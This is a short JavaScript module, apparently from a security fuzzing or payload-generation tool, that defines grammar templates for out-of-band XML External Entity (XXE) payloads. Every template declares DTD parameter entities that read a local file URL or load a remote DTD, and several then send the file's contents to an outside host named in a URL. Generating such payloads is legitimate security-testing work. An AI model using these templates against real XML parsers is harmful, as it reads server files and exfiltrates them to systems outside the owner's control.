import { xxeGenerator } from '../xxe-generator.js';

/** A file's content leaves in the address of the next entity. */
export const outOfBandDtd = xxeGenerator({
  name: 'out-of-band-dtd',
  rules: {
    start: [
      '{declaration}{break}<!DOCTYPE {root:r} [<!ENTITY % {letters:f} SYSTEM {q:q}{file-url}{q:q}>{break}<!ENTITY % {letters:d} SYSTEM {q:q}http://{host}/{letters}.dtd{q:q}>{break}%{letters:d};{break}%send;{break}]>{break}<{root:r}>{letters}</{root:r}>',
      '{declaration}{break}<!DOCTYPE {root:r} [<!ENTITY % {letters:f} SYSTEM "{file-url}"><!ENTITY % {letters:g} "<!ENTITY &#x25; {letters:s} SYSTEM \'http://{host}/?%{letters:f};\'>">%{letters:g};%{letters:s};]><{root:r}/>',
      '{declaration}{break}<!DOCTYPE {root:r} [<!ENTITY % remote SYSTEM {q:q}{url}{q:q}>%remote;%int;%trick;]><{root:r}/>',
      "{declaration}<!DOCTYPE {root:r} [<!ENTITY % {letters:a} SYSTEM 'http://{host}/{letters}'> <!ENTITY % {letters:b} '{letters}'>%{letters:a};]><{root:r}>&{letters};</{root:r}>",
    ],
  },
});
